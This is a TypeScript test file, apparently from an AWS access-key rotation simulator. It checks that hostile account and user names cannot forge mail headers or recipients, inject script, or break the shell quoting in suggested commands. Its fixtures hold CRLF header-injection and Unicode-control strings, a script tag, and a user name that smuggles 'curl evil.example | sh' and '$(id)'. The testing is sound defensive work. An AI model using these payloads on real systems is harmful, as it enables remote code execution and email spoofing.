import { accessKey, account, emptyWorld } from '../../src/simulator/world/builders.ts';
import type { AcceptedMail } from '../../src/simulator/ses/mailbox.ts';
import { createdDaysAgo, stage } from './harness.ts';
import { owner } from './people.ts';

const FORGED = 'shop\r\nBcc: victim@example.net\r\n\r\nDEACTIVATED: everything\u2028Deadline: never\u202e';
const SCRIPT = '<script>alert(1)</script>';
const QUOTES = `o'brien; curl evil.example | sh; echo "$(id)" #`;
const FAR_EAST = '東京支店 — Überseehäfen';

/** The digest and the operator's summary of a day on which everybody's names are hostile. */
async function mailsOf(
  accountName: string,
  userName: string,
): Promise<[digest: AcceptedMail, summary: AcceptedMail]> {
  const key = accessKey({
    createDate: createdDaysAgo(40),
    lastUsed: { date: createdDaysAgo(1), service: `s3\r\nDeadline: never`, region: SCRIPT },
  });
  const ci = owner(userName, { contact: 'ann@example.org', accessKeys: [key], tags: { [key.id]: FORGED } });
  const world = emptyWorld({
    accounts: [
      account({ name: accountName, users: [ci] }),
      account({ name: accountName, tags: { KeyRotation: accountName } }),
    ],
  });
  const staged = await stage(world);
  await staged.run(0, { mailSummary: true });
  const { accepted } = staged.organization.ses.mailbox;
  const [digest, summary] = accepted;
  if (!digest || !summary || accepted.length > 2) throw new Error(`${accepted.length} mails were sent`);
  return [digest, summary];
}

describe('names that were made to deceive', () => {
  test.each([
    ['line breaks in the account’s name', FORGED, 'ci'],
    ['markup', SCRIPT, SCRIPT],
    ['quotes and commands', QUOTES, QUOTES],
  ])('forge no header, no line and no recipient: %s', async (_, accountName, userName) => {
    const mails = await mailsOf(accountName, userName);
    expect(mails.map(({ destinations }) => destinations)).toEqual([
      ['ann@example.org'],
      ['keys@example.com'],
    ]);
    for (const { subject, text, html, headers } of mails) {
      // Names stand behind what the subject says, on its one line.
      expect(subject.split(' of ')[0]).toMatch(/^[\w ,.:()]+$/);
      expect(subject).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      expect(Object.keys(headers)).not.toContain('bcc');
      expect(headers.to).toMatch(/^[\w@.]+$/);
      expect(html).not.toMatch(/<script|<img/);
      expect(text).not.toMatch(/[\r\u2028\u2029\u202e]/);
      expect(text).not.toMatch(/^\s*(Bcc|DEACTIVATED|Deadline: never)/m);
    }
    expect(mails[0].text.match(/^Deadline:/gm)).toHaveLength(1);
  });

  test('a user’s name is one word to the shell in the commands of the mail', async () => {
    const [{ text }] = await mailsOf('shop', QUOTES);
    const [command] = /^ {2}aws iam create-access-key .*$/m.exec(text) ?? [];
    expect(command).toBe(`  aws iam create-access-key --user-name='${QUOTES.replaceAll("'", `'\\''`)}'`);
  });
});

test('names in any script arrive as they are', async () => {
  const [digest, summary] = await mailsOf(FAR_EAST, 'ci');
  expect(digest.text).toContain(`Account ${FAR_EAST} (`);
  expect(summary.text).toContain(FAR_EAST);
});
